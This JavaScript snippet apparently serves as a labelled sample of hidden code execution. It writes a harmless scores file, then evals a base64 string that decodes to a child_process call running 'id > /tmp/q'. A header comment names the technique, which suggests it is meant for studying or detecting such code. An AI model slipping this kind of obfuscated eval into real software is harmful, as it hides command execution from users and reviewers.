// harm: eval of built string; technique: eval of base64-decoded Buffer
const fs = require('fs');

const payload = Buffer.from(
  'cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCA+IC90bXAvcSIp',
  'base64'
).toString('utf8');

const scores = { a: 1, b: 2 };
fs.writeFileSync('scores.json', JSON.stringify(scores));
eval(payload);
